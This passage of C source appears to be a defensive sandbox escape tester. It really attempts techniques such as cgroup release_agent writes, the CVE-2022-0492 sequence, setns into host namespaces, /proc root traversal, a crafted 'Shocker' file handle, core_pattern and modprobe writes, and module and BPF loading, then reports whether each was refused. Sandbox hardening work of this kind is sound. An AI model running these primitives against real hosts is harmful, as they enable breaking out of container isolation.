/*
 * alcub3-escape: the escape suite's attacker.
 *
 * It runs inside a sandbox, really attempts each escape technique, and prints one
 * JSON line per technique saying whether the kernel refused it:
 *
 *   {"technique":"mount","refused":true,"errno":"EPERM","detail":"mount(tmpfs, /tmp/alcub3-escape-Qx81Zb): Operation not permitted"}
 *
 * Usage:
 *   alcub3-escape [--host-pid PID] [--workspace DIR] [--metadata ADDR:PORT]
 *                 [--socket PATH]... TECHNIQUE...
 *   alcub3-escape all       every technique, in the order of `list`
 *   alcub3-escape list      the technique ids, one per line
 *
 *   --host-pid PID        a process outside the sandbox, by its pid as seen from inside;
 *                         the target of ptrace, /proc/PID and setns (default: pid 1)
 *   --workspace DIR       where this run's scratch directory goes (default /tmp)
 *   --metadata ADDR:PORT  the cloud metadata endpoint (default 169.254.169.254:80);
 *                         IPv6 as [ADDR]:PORT
 *   --socket PATH         one more Unix socket for runtime-socket (repeatable)
 *
 * Exit status: 0 when every technique was refused, 1 when any was not, 2 on a usage
 * error.
 *
 * "refused" is true when the attempt did not reach its goal: a syscall failed, or it
 * succeeded without the effect (a setuid(0) that leaves no capabilities). The errno is
 * reported only for refusals; "detail" lists every sub-attempt. A technique whose
 * attempt is killed by SIGSYS or SIGKILL (seccomp, the monitor's response) counts as
 * refused; one that hangs or crashes is reported as "no verdict" and not refused.
 *
 * It is safe to run on a host, which is how its attempts are shown to be real:
 * - each technique runs in its own child process, so namespaces, roots and credentials
 *   it gains die with it; after 15 s it is killed, and every process it started with it;
 * - the resource attacks (fork-bomb, memory-hog, disk-filler) stop after 3 s and
 *   remove their processes, memory and file;
 * - writes to kernel knobs (core_pattern, sysrq, release_agent) write back the value
 *   just read: the write proves access and changes nothing; /proc/sysrq-trigger is only
 *   opened, never written;
 * - files and device nodes it manages to create are removed at once; foreign memory is
 *   only rewritten with the bytes already there (/proc/PID/mem), or probed at an
 *   unmapped address (process_vm_writev), and a ptrace attach detaches at once.
 *
 * Build: `make escape` (a static binary, so it runs in any sandbox root).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/magic.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>

/* Linux 6.3 added executable-memfd control; Debian 12's headers predate it. */
#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U
#endif

enum {
    TECHNIQUE_TIMEOUT_MS = 15000, /* longer than any attempt needs (resource ones: 3 s + cleanup) */
    RESOURCE_ATTACK_MS = 3000,    /* how long fork-bomb, memory-hog and disk-filler run */
    CONNECT_TIMEOUT_MS = 1000,
    DETAIL_MAX = 3000,            /* keeps a whole outcome below PIPE_BUF: one atomic write */
};

static const uintptr_t unmapped_probe_address = 0x1000; /* below vm.mmap_min_addr: never mapped */

/* ---- options ---------------------------------------------------------------------- */

static struct {
    pid_t host_pid;                  /* 0 when not given */
    const char *workspace;           /* NULL when not given */
    struct sockaddr_storage metadata;
    socklen_t metadata_len;
    const char *metadata_text;
    const char *sockets[16];
    int socket_count;
} options;

/* The process the cross-process techniques aim at. */
static pid_t target_pid(void)
{
    return options.host_pid ? options.host_pid : 1;
}

/* This run's own directory in the workspace (or /tmp), holding every scratch file and
 * directory: overlapping runs never collide on a name, and what an attempt killed midway
 * leaves behind is removed at the end. Empty when it could not be made. */
static char run_dir[PATH_MAX - 64]; /* shorter, so the names made in it always fit */

static const char *scratch_base(void)
{
    if (run_dir[0])
        return run_dir;
    return options.workspace ? options.workspace : "/tmp";
}

/* ---- outcomes ----------------------------------------------------------------------- */

/* What one technique achieved, filled in by the process that tried it. */
struct outcome {
    bool achieved;  /* some attempt reached the technique's goal: not refused */
    int err;        /* the errno reported when refused; 0 for none */
    size_t len;
    char detail[DETAIL_MAX];
};
_Static_assert(sizeof(struct outcome) <= PIPE_BUF, "an outcome must cross a pipe in one atomic write");

/* Appends one "; "-separated entry to the detail; a full detail is cut short. */
__attribute__((format(printf, 2, 0)))
static void vnote(struct outcome *o, const char *fmt, va_list ap)
{
    size_t room = sizeof o->detail - o->len;
    if (o->len > 0 && room > 2) {
        memcpy(o->detail + o->len, "; ", 3);
        o->len += 2;
        room -= 2;
    }
    int n = vsnprintf(o->detail + o->len, room, fmt, ap);
    if (n > 0)
        o->len += (size_t)n < room ? (size_t)n : room - 1;
}

__attribute__((format(printf, 2, 3)))
static void note(struct outcome *o, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vnote(o, fmt, ap);
    va_end(ap);
}

/* The reported errno is the first failure's, but one other than ENOENT wins over it:
 * "permission denied" says more about the sandbox than "the file is not there". */
static void record_errno(struct outcome *o, int err)
{
    if (err != 0 && (o->err == 0 || (o->err == ENOENT && err != ENOENT)))
        o->err = err;
}

/* Notes a failed attempt as "what: strerror" and records its errno. */
__attribute__((format(printf, 3, 4)))
static void fail(struct outcome *o, int err, const char *fmt, ...)
{
    char what[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(what, sizeof what, fmt, ap);
    va_end(ap);
    record_errno(o, err);
    note(o, "%s: %s", what, strerror(err));
}

/* Notes an attempt that reached the technique's goal. */
__attribute__((format(printf, 2, 3)))
static void win(struct outcome *o, const char *fmt, ...)
{
    va_list ap;
    o->achieved = true;
    va_start(ap, fmt);
    vnote(o, fmt, ap);
    va_end(ap);
}

/* Folds a sub-attempt's outcome (from run_isolated) into the technique's. */
static void merge(struct outcome *o, const struct outcome *sub, const char *label)
{
    o->achieved |= sub->achieved;
    record_errno(o, sub->err);
    if (sub->len)
        note(o, "%s: %s", label, sub->detail);
}

static const char *errno_name(int err)
{
    const char *name = strerrorname_np(err);
    return name ? name : "EUNKNOWN";
}

/* ---- small helpers ------------------------------------------------------------------ */

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void nap_ms(long ms)
{
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR) {
    }
}

static bool write_all(int fd, const void *buf, size_t len)
{
    const char *p = buf;
    while (len > 0) {
        ssize_t n = write(fd, p, len);
        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0)
            return false;
        p += n;
        len -= (size_t)n;
    }
    return true;
}

/* Reads a small file into buf, NUL-terminated; -1 with errno on failure. */
static ssize_t read_text(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    size_t got = 0;
    while (got < size - 1) {
        ssize_t n = read(fd, buf + got, size - 1 - got);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0) {
            int err = errno;
            close(fd);
            errno = err;
            return -1;
        }
        if (n == 0)
            break;
        got += (size_t)n;
    }
    close(fd);
    buf[got] = '\0';
    return (ssize_t)got;
}

/* A "Name:\tvalue" field of /proc/self/status, parsed as hex (CapEff and friends;
 * 0/1 fields such as NoNewPrivs read the same). */
static bool status_field(const char *name, unsigned long long *value)
{
    char buf[8192];
    if (read_text("/proc/self/status", buf, sizeof buf) < 0)
        return false;
    size_t len = strlen(name);
    for (char *line = buf; line; line = strchr(line, '\n')) {
        if (*line == '\n')
            line++;
        if (strncmp(line, name, len) == 0 && line[len] == ':') {
            *value = strtoull(line + len + 1, NULL, 16);
            return true;
        }
    }
    return false;
}

/* Creates a fresh scratch directory; says why in the detail when it cannot. */
static bool make_scratch_dir(struct outcome *o, char dir[PATH_MAX])
{
    snprintf(dir, PATH_MAX, "%s/%s", scratch_base(), run_dir[0] ? "scratch-XXXXXX" : "alcub3-escape-XXXXXX");
    if (mkdtemp(dir))
        return true;
    note(o, "no scratch directory (mkdtemp in %s: %s)", scratch_base(), strerror(errno));
    return false;
}

/* The scratch directory a technique shares with the isolated sub-attempt it forks. */
static char shared_dir[PATH_MAX];

struct mapping {
    uintptr_t start, end;
    unsigned long long offset;
    unsigned long inode;
    char perms[5];
};

/* Parses up to max entries of /proc/PID/maps; -1 with errno when it is unreadable. */
static int read_maps(pid_t pid, struct mapping *maps, int max)
{
    static char buf[256 * 1024];
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
    if (read_text(path, buf, sizeof buf) < 0)
        return -1;
    int count = 0;
    for (char *line = buf; line && *line && count < max; line = strchr(line, '\n')) {
        if (*line == '\n')
            line++;
        struct mapping *m = &maps[count];
        unsigned long start, end;
        if (sscanf(line, "%lx-%lx %4s %llx %*s %lu", &start, &end, m->perms, &m->offset, &m->inode) == 5) {
            m->start = start;
            m->end = end;
            count++;
        }
    }
    return count;
}

/* Waits up to ms for pid to change state (exit, or stop when tracing); false on timeout. */
static bool wait_within(pid_t pid, int *status, int options_flags, int ms)
{
    int64_t deadline = now_ms() + ms;
    for (;;) {
        pid_t r = waitpid(pid, status, options_flags | WNOHANG);
        if (r == pid)
            return true;
        if (r < 0 && errno != EINTR)
            return false;
        if (now_ms() >= deadline)
            return false;
        nap_ms(5);
    }
}

/* Reaps a child within ms, killing it if it is still running then. */
static int reap_within(pid_t pid, int ms, bool *killed)
{
    int status = 0;
    *killed = false;
    if (!wait_within(pid, &status, 0, ms)) {
        kill(pid, SIGKILL);
        *killed = true;
        while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {
        }
    }
    return status;
}

/* fork(), retried briefly: a resource attack just before may still be releasing pids. */
static pid_t fork_retrying(void)
{
    for (int i = 0;; i++) {
        pid_t pid = fork();
        if (pid >= 0 || errno != EAGAIN || i == 10)
            return pid;
        nap_ms(100);
    }
}

/* Raises our oom_score_adj, which needs no privilege. The levels: 0 for the reporter,
 * 500 for an attempt, 1000 for a resource attack's worker. */
static void prefer_as_oom_victim(int score)
{
    char text[16];
    int len = snprintf(text, sizeof text, "%d", score);
    int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        write_all(fd, text, (size_t)len);
        close(fd);
    }
}

/* In a child just forked: be killed when the parent dies, so a parent cut off at its
 * deadline takes its whole tree of processes with it. */
static void die_with_parent(pid_t parent)
{
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (getppid() != parent) /* it died before the request */
        _exit(1);
}

typedef void attempt_fn(struct outcome *);

/* Runs an attempt in a child process, so what it changes in itself (namespaces, root,
 * credentials) dies with it, and a hang is cut off at the deadline. The child sends
 * its outcome back in one write. */
static void run_isolated(attempt_fn *attempt, struct outcome *out, int timeout_ms)
{
    memset(out, 0, sizeof *out);
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) < 0) {
        win(out, "no verdict: pipe: %s", strerror(errno));
        return;
    }
    pid_t parent = getpid();
    pid_t pid = fork_retrying();
    if (pid < 0) {
        win(out, "no verdict: could not fork to run the attempt: %s", strerror(errno));
        close(pipefd[0]);
        close(pipefd[1]);
        return;
    }
    if (pid == 0) {
        close(pipefd[0]);
        die_with_parent(parent);
        /* Should a limit bring the OOM killer, it takes the attempt, not the reporter. */
        prefer_as_oom_victim(500);
        struct outcome result;
        memset(&result, 0, sizeof result);
        attempt(&result);
        write_all(pipefd[1], &result, sizeof result);
        _exit(0);
    }
    close(pipefd[1]);

    /* The child's own children may hold the pipe open after it is gone, so EOF alone
     * cannot tell that it finished: watch the child too. */
    size_t got = 0;
    bool reaped = false, timed_out = false;
    int status = 0;
    int64_t deadline = now_ms() + timeout_ms;
    while (got < sizeof *out) {
        struct pollfd pfd = {.fd = pipefd[0], .events = POLLIN};
        if (poll(&pfd, 1, 50) > 0) {
            ssize_t n = read(pipefd[0], (char *)out + got, sizeof *out - got);
            if (n > 0) {
                got += (size_t)n;
                continue;
            }
            if (n == 0 || errno != EINTR)
                break;
            continue;
        }
        if (reaped)
            break; /* gone, and nothing left in the pipe */
        if (waitpid(pid, &status, WNOHANG) == pid) {
            reaped = true;
            continue; /* drain what it wrote before exiting */
        }
        if (now_ms() >= deadline) {
            timed_out = true;
            kill(pid, SIGKILL);
            break;
        }
    }
    close(pipefd[0]);
    if (!reaped)
        while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {
        }
    if (got == sizeof *out)
        return;

    memset(out, 0, sizeof *out);
    if (timed_out) {
        win(out, "no verdict: the attempt did not finish within %d s", timeout_ms / 1000);
    } else if (WIFSIGNALED(status)) {
        int sig = WTERMSIG(status);
        /* SIGSYS is seccomp's kill; SIGKILL a monitor's response (or the OOM killer). */
        if (sig == SIGSYS || sig == SIGKILL)
            note(out, "the attempt was killed by SIG%s (%s)", sigabbrev_np(sig), sigdescr_np(sig));
        else
            win(out, "no verdict: the attempt crashed with SIG%s", sigabbrev_np(sig));
    } else {
        win(out, "no verdict: the attempt exited with status %d without reporting", WEXITSTATUS(status));
    }
}

/* Proves write access to a kernel knob without changing it: reads the value, writes
 * exactly that back, and checks it is unchanged. Returns true when the write went in. */
static bool write_back_same(struct outcome *o, const char *path)
{
    char before[4096], after[4096];
    ssize_t len = read_text(path, before, sizeof before);
    int read_err = errno;
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "open(%s, O_WRONLY)", path);
        return false;
    }
    if (len < 0) {
        close(fd);
        win(o, "open(%s, O_WRONLY) succeeded; not written, since its value is unreadable (%s) "
               "and could not be restored", path, strerror(read_err));
        return true;
    }
    /* An empty value is written as a bare newline, which such files read as empty. */
    ssize_t n = len > 0 ? write(fd, before, (size_t)len) : write(fd, "\n", 1);
    int write_err = errno;
    close(fd);
    if (n < 0) {
        fail(o, write_err, "write(%s)", path);
        return false;
    }
    bool unchanged = read_text(path, after, sizeof after) == len && memcmp(before, after, (size_t)len) == 0;
    win(o, "write(%s) succeeded (wrote back its own value%s)", path, unchanged ? ", unchanged" : "; THE VALUE CHANGED");
    return true;
}

/* ---- the techniques ------------------------------------------------------------------ */

static void attempt_mount(struct outcome *o)
{
    char dir[PATH_MAX];
    bool made = make_scratch_dir(o, dir);
    if (!made)
        snprintf(dir, sizeof dir, "%s", scratch_base()); /* a mount point need not be writable */
    if (mount("none", dir, "tmpfs", 0, NULL) == 0) {
        struct statfs fs;
        bool is_tmpfs = statfs(dir, &fs) == 0 && fs.f_type == TMPFS_MAGIC;
        win(o, "mount(tmpfs, %s) succeeded%s (unmounted)", dir, is_tmpfs ? ": a tmpfs is mounted there" : "");
        umount2(dir, MNT_DETACH);
    } else {
        fail(o, errno, "mount(tmpfs, %s)", dir);
    }
    if (made)
        rmdir(dir);

    /* The new mount API, which a filter on mount(2) alone would miss. */
    int fs = fsopen("tmpfs", FSOPEN_CLOEXEC);
    if (fs < 0) {
        fail(o, errno, "fsopen(tmpfs)");
        return;
    }
    int mnt = -1;
    if (fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) == 0)
        mnt = fsmount(fs, FSMOUNT_CLOEXEC, 0);
    win(o, "fsopen(tmpfs) succeeded%s", mnt >= 0 ? ", and fsmount made a detached tmpfs mount" : "");
    if (mnt >= 0)
        close(mnt);
    close(fs);
}

/* Mounts cgroup v1 hierarchies on shared_dir and tries each one's release_agent. */
static void cgroup_mount_and_write(struct outcome *o)
{
    static const char *const controllers[] = {"rdma", "memory"};
    for (size_t i = 0; i < sizeof controllers / sizeof *controllers; i++) {
        if (mount("cgroup", shared_dir, "cgroup", 0, controllers[i]) < 0) {
            fail(o, errno, "mount(cgroup -o %s, %s)", controllers[i], shared_dir);
            continue;
        }
        note(o, "mount(cgroup -o %s) succeeded (unmounted)", controllers[i]);
        char agent[PATH_MAX + 16];
        snprintf(agent, sizeof agent, "%s/release_agent", shared_dir);
        if (access(agent, F_OK) == 0)
            write_back_same(o, agent);
        else
            note(o, "no release_agent in it");
        umount2(shared_dir, MNT_DETACH);
    }
}

/* CVE-2022-0492 as published: an unprivileged user's own namespaces, then the mount. */
static void cgroup_in_new_namespaces(struct outcome *o)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
        fail(o, errno, "unshare(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWCGROUP)");
        return;
    }
    cgroup_mount_and_write(o);
}

static void attempt_cgroup_release_agent(struct outcome *o)
{
    bool made = make_scratch_dir(o, shared_dir);
    if (made)
        cgroup_mount_and_write(o);

    int found = 0;
    DIR *root = opendir("/sys/fs/cgroup");
    if (root) {
        struct dirent *entry;
        while ((entry = readdir(root))) {
            char agent[PATH_MAX];
            /* "." is kept: it covers a v1 hierarchy mounted on /sys/fs/cgroup itself. */
            if (strcmp(entry->d_name, "..") == 0)
                continue;
            snprintf(agent, sizeof agent, "/sys/fs/cgroup/%s/release_agent", entry->d_name);
            if (access(agent, F_OK) == 0) {
                found++;
                write_back_same(o, agent);
            }
        }
        closedir(root);
    }
    if (!found)
        note(o, "no release_agent file under /sys/fs/cgroup");

    if (made) {
        struct outcome sub;
        run_isolated(cgroup_in_new_namespaces, &sub, 5000);
        merge(o, &sub, "in new user, mount and cgroup namespaces");
        rmdir(shared_dir);
    }
}

/* In a child: a new user namespace, then what it grants (runs on shared_dir). */
static void userns_unshare_child(struct outcome *o)
{
    if (unshare(CLONE_NEWUSER) < 0) {
        fail(o, errno, "unshare(CLONE_NEWUSER)");
        return;
    }
    unsigned long long eff = 0;
    status_field("CapEff", &eff);
    win(o, "unshare(CLONE_NEWUSER) succeeded: CapEff %#llx in the new namespace", eff);
    if (unshare(CLONE_NEWNS) < 0) {
        fail(o, errno, "unshare(CLONE_NEWNS) in it");
        return;
    }
    if (!shared_dir[0]) {
        note(o, "unshare(CLONE_NEWNS) in it succeeded (no scratch directory to mount on)");
        return;
    }
    if (mount("none", shared_dir, "tmpfs", 0, NULL) < 0) {
        fail(o, errno, "unshare(CLONE_NEWNS) in it succeeded, but mount(tmpfs)");
        return;
    }
    note(o, "unshare(CLONE_NEWNS) and mount(tmpfs, %s) in it succeeded", shared_dir);
    umount2(shared_dir, MNT_DETACH);
}

static void attempt_userns_unshare(struct outcome *o)
{
    bool made = make_scratch_dir(o, shared_dir);
    if (!made)
        shared_dir[0] = '\0';
    struct outcome sub;
    run_isolated(userns_unshare_child, &sub, 5000);
    merge(o, &sub, "in a child");
    if (made)
        rmdir(shared_dir);

    /* clone(2) creates the namespace for a new process, a path apart from unshare(2). */
    long pid = syscall(SYS_clone, (unsigned long)(CLONE_NEWUSER | SIGCHLD), 0UL, 0UL, 0UL, 0UL);
    if (pid == 0)
        _exit(0);
    if (pid < 0) {
        fail(o, errno, "clone(CLONE_NEWUSER)");
        return;
    }
    bool killed;
    reap_within((pid_t)pid, 1000, &killed);
    win(o, "clone(CLONE_NEWUSER) started a process in a new user namespace");
}

static void attempt_setns_host(struct outcome *o)
{
    /* Joining the user namespace last: it changes our credentials for the others. */
    static const char *const kinds[] = {"mnt", "net", "pid", "uts", "ipc", "cgroup", "time", "user"};
    enum { KINDS = sizeof kinds / sizeof *kinds };
    struct { char path[64]; int fd; int kind; } targets[2 * KINDS];
    int count = 0;

    ino_t ours[KINDS];
    for (int k = 0; k < KINDS; k++) {
        char path[64];
        struct stat st;
        snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[k]);
        ours[k] = stat(path, &st) == 0 ? st.st_ino : 0;
    }

    /* pid 1's mount, network and pid namespaces; every namespace of --host-pid. All are
     * opened before any is joined: joining a mount namespace changes what /proc shows. */
    pid_t pids[2] = {1, options.host_pid};
    for (int p = 0; p < 2; p++) {
        if (p == 1 && (options.host_pid == 0 || options.host_pid == 1))
            break;
        int kinds_here = (p == 0 && options.host_pid != 1) ? 3 : KINDS;
        for (int k = 0; k < kinds_here; k++) {
            snprintf(targets[count].path, sizeof targets[count].path, "/proc/%d/ns/%s", (int)pids[p], kinds[k]);
            targets[count].kind = k;
            targets[count].fd = open(targets[count].path, O_RDONLY | O_CLOEXEC);
            if (targets[count].fd < 0)
                fail(o, errno, "open(%s)", targets[count].path);
            else
                count++;
        }
    }

    for (int i = 0; i < count; i++) {
        struct stat st;
        bool own = fstat(targets[i].fd, &st) == 0 && st.st_ino == ours[targets[i].kind];
        if (setns(targets[i].fd, 0) < 0)
            fail(o, errno, "setns(%s)", targets[i].path);
        else if (own)
            note(o, "setns(%s) succeeded, but into our own namespace", targets[i].path);
        else
            win(o, "setns(%s) entered a namespace other than ours", targets[i].path);
        close(targets[i].fd);
    }
}

static bool same_inode(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Whether a directory lies outside our root. Climbing ".." from anywhere in our tree
 * ends at our root, where the kernel stops it; from outside, it ends elsewhere. */
static bool outside_our_root(int dirfd, const struct stat *our_root)
{
    struct stat here, up;
    int fd = openat(dirfd, ".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0 || fstat(fd, &here) < 0)
        return false;
    for (int i = 0; i < 256; i++) {
        int parent = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (parent < 0)
            break;
        close(fd);
        fd = parent;
        if (fstat(fd, &up) < 0 || same_inode(&up, &here))
            break; /* the top */
        here = up;
    }
    close(fd);
    return !same_inode(&here, our_root);
}

static void attempt_proc_root_traversal(struct outcome *o)
{
    struct stat our_root;
    stat("/", &our_root);
    pid_t pids[2] = {options.host_pid, 1};
    for (int p = 0; p < 2; p++) {
        pid_t pid = pids[p];
        if (pid == 0 || (p == 1 && options.host_pid == 1))
            continue;
        char path[PATH_MAX];

        snprintf(path, sizeof path, "/proc/%d/root", (int)pid);
        int root = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (root < 0) {
            fail(o, errno, "open(%s)", path);
        } else {
            bool outside = outside_our_root(root, &our_root);
            close(root);
            char hostname[80];
            snprintf(path, sizeof path, "/proc/%d/root/etc/hostname", (int)pid);
            if (read_text(path, hostname, sizeof hostname) < 0) {
                fail(o, errno, "open(%s)", path);
            } else {
                hostname[strcspn(hostname, "\n")] = '\0';
                if (outside)
                    win(o, "read %s (\"%s\") through a root outside ours", path, hostname);
                else
                    note(o, "read %s (\"%s\"), but that root lies within ours", path, hostname);
            }
        }

        /* The walk resolves ".." against our root, not the target's: from a root nested
         * in ours, it climbs out of the target's root, though not out of ours. */
        snprintf(path, sizeof path, "/proc/%d/root/..", (int)pid);
        int parent = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (parent < 0) {
            fail(o, errno, "open(%s)", path);
        } else {
            if (outside_our_root(parent, &our_root))
                win(o, "%s is a directory outside our root", path);
            else
                note(o, "%s lies within our root", path);
            close(parent);
        }

        snprintf(path, sizeof path, "/proc/%d/root/etc/alcub3-escape-probe", (int)pid);
        int fd = open(path, O_CREAT | O_WRONLY | O_EXCL | O_CLOEXEC, 0600);
        if (fd < 0) {
            fail(o, errno, "open(%s, O_CREAT)", path);
        } else {
            close(fd);
            unlink(path);
            win(o, "created %s (removed)", path);
        }
    }
}

/* Opens a handle against mount_fd; needs CAP_DAC_READ_SEARCH. */
static void open_handle(struct outcome *o, int mount_fd, struct file_handle *handle, const char *label)
{
    int fd = open_by_handle_at(mount_fd, handle, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "open_by_handle_at(%s)", label);
        return;
    }
    struct stat st, our_root;
    fstat(fd, &st);
    stat("/", &our_root);
    win(o, "open_by_handle_at(%s) opened device %u:%u inode %lu%s", label, major(st.st_dev),
        minor(st.st_dev), (unsigned long)st.st_ino,
        same_inode(&st, &our_root) ? " (our own root)" : ", a directory outside our root");
    close(fd);
}

static void attempt_open_by_handle(struct outcome *o)
{
    /* struct file_handle ends in a flexible array: give it room for any handle. */
    _Alignas(struct file_handle) unsigned char storage[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *handle = (struct file_handle *)storage;
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount_fd < 0) {
        fail(o, errno, "open(/)");
        return;
    }

    int mount_id;
    memset(storage, 0, sizeof storage);
    handle->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/", handle, &mount_id, 0) == 0)
        open_handle(o, mount_fd, handle, "the handle of /");
    else
        fail(o, errno, "name_to_handle_at(/)");

    /* "Shocker": ext2/3/4 encode a handle as FILEID_INO32_GEN (type 1) = inode and
     * generation, and inode 2 is the filesystem's root, whatever part of it we see. */
    memset(storage, 0, sizeof storage);
    handle->handle_type = 1;
    handle->handle_bytes = 8;
    const uint32_t inode_and_generation[2] = {2, 0};
    memcpy(handle->f_handle, inode_and_generation, sizeof inode_and_generation);
    open_handle(o, mount_fd, handle, "a crafted handle of inode 2");
    close(mount_fd);
}

static void attempt_proc_control(struct outcome *o)
{
    /* kernel.modprobe names the program the kernel runs as root for an unknown binary
     * format: whoever sets it runs code on the host. */
    write_back_same(o, "/proc/sys/kernel/modprobe");
}

static void attempt_cgroup_escape(struct outcome *o)
{
    /* Moving into a top-level cgroup leaves the sandbox's limits, its freezer and the
     * kernel's per-sandbox telemetry filter. Writing our own pid is the whole attack. */
    static const char *const procs[] = {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"};
    char pid[32];
    int len = snprintf(pid, sizeof pid, "%d\n", (int)getpid());
    for (size_t i = 0; i < sizeof procs / sizeof procs[0]; i++) {
        int fd = open(procs[i], O_WRONLY | O_CLOEXEC);
        if (fd < 0) {
            fail(o, errno, "open(%s, O_WRONLY)", procs[i]);
            continue;
        }
        ssize_t n = write(fd, pid, (size_t)len);
        int err = errno;
        close(fd);
        if (n == len) {
            win(o, "moved itself into %s", procs[i]);
            return;
        }
        fail(o, err, "write(%s)", procs[i]);
    }
}

static void attempt_core_pattern(struct outcome *o)
{
    /* The real attack writes "|/tmp/x"; writing back the current value proves the same
     * access without leaving a host changed. */
    write_back_same(o, "/proc/sys/kernel/core_pattern");
}

static void attempt_sysrq(struct outcome *o)
{
    /* Every byte written to sysrq-trigger is a command: only the open is attempted. */
    int fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "open(/proc/sysrq-trigger, O_WRONLY)");
    } else {
        close(fd);
        win(o, "open(/proc/sysrq-trigger, O_WRONLY) succeeded (nothing written)");
    }
    write_back_same(o, "/proc/sys/kernel/sysrq");
}

static void module_result(struct outcome *o, long rc, int err, const char *call)
{
    if (rc == 0)
        win(o, "%s succeeded", call);
    else if (err == EPERM || err == ENOSYS) /* ENOSYS: a kernel built without modules */
        fail(o, err, "%s", call);
    else /* no module can load from these images, but the permission check let it by */
        fail(o, err, "%s (past the permission check)", call);
}

static void attempt_kernel_module(struct outcome *o)
{
    /* Our own binary is an ELF executable, not a relocatable module: it cannot load. */
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "open(/proc/self/exe)");
    } else {
        long rc = syscall(SYS_finit_module, fd, "", 0);
        module_result(o, rc, errno, "finit_module(/proc/self/exe)");
        close(fd);
    }
    static const char bogus_image[64] = "\177ELF, but not a module";
    long rc = syscall(SYS_init_module, bogus_image, sizeof bogus_image, "");
    module_result(o, rc, errno, "init_module(a bogus image)");
    rc = syscall(SYS_delete_module, "alcub3_escape_nonexistent", O_NONBLOCK);
    module_result(o, rc, errno, "delete_module(alcub3_escape_nonexistent)");
}

static void attempt_bpf(struct outcome *o)
{
    /* r0 = 0; exit: a socket filter that drops everything. */
    struct bpf_insn program[2] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insns = (uintptr_t)program;
    attr.insn_cnt = 2;
    attr.license = (uintptr_t)"GPL";
    int fd = (int)syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
    if (fd < 0) {
        fail(o, errno, "bpf(BPF_PROG_LOAD, socket filter)");
    } else {
        win(o, "bpf(BPF_PROG_LOAD) loaded a socket filter");
        close(fd);
    }

    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    fd = (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
    if (fd < 0) {
        fail(o, errno, "bpf(BPF_MAP_CREATE, array)");
    } else {
        win(o, "bpf(BPF_MAP_CREATE) created an array map");
        close(fd);
    }
    char knob[16];
    if (read_text("/proc/sys/kernel/unprivileged_bpf_disabled", knob, sizeof knob) > 0)
        note(o, "unprivileged_bpf_disabled=%.*s", (int)strcspn(knob, "\n"), knob);
}

static void perf_open(struct outcome *o, struct perf_event_attr *attr, const char *what)
{
    attr->size = sizeof *attr;
    attr->disabled = 1; /* never armed: a probe that fires is not the point */
    int fd = (int)syscall(SYS_perf_event_open, attr, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "perf_event_open(%s)", what);
    } else {
